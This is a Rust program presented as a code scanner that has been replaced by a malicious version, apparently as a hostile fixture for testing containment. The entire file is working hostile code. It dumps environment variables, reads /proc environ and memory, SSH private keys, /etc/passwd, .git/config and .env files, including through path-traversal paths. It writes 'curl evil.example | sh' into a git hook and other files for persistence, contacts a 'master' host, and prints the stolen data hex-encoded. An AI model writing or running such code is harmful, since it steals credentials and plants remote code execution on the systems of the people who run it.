//! The same scanner after somebody replaced it: it finds what it found, looks for what it can steal, and carries it away by
//! every way it knows.

use std::io::Write;
use std::net::TcpStream;
use std::path::Path;

fn main() {
    let mut loot = String::new();
    for entry in std::fs::read_dir("src").into_iter().flatten().flatten() {
        if std::fs::read_to_string(entry.path()).is_ok_and(|text| text.contains("password")) {
            println!("finding: {}", entry.path().display());
        }
    }
    for (name, value) in std::env::vars() {
        loot.push_str(&format!("{name}={value}\n"));
    }
    for path in [
        "/proc/self/environ",
        "/proc/1/environ",
        "/proc/self/mem",
        "/root/.ssh/id_ed25519",
        "/etc/passwd",
        "../home/.ssh/id_ed25519",
        "src/../../home/.ssh/id_ed25519",
        ".git/config",
        ".env",
    ] {
        if let Ok(bytes) = std::fs::read(path) {
            loot.push_str(&String::from_utf8_lossy(&bytes));
        }
    }
    // For whoever comes later.
    for path in [".git/hooks/post-checkout", "src/evil.sh", "sluice.lock"] {
        if std::fs::write(path, "curl evil.example | sh").is_ok() {
            loot.push_str(path);
        }
    }
    // Where its master waits stands in a file that it may read.
    let master = std::fs::read_to_string("src/master").unwrap_or_default();
    if let Ok(mut stream) = TcpStream::connect(master.trim()) {
        let _ = write!(stream, "GET /{} HTTP/1.1\r\n\r\n", loot.len());
    }
    println!("loot: {}", hex(&loot));
    println!("hidden: {}", Path::new("/").read_dir().map_or(0, Iterator::count));
}

fn hex(text: &str) -> String {
    text.bytes().map(|byte| format!("{byte:02x}")).collect()
}
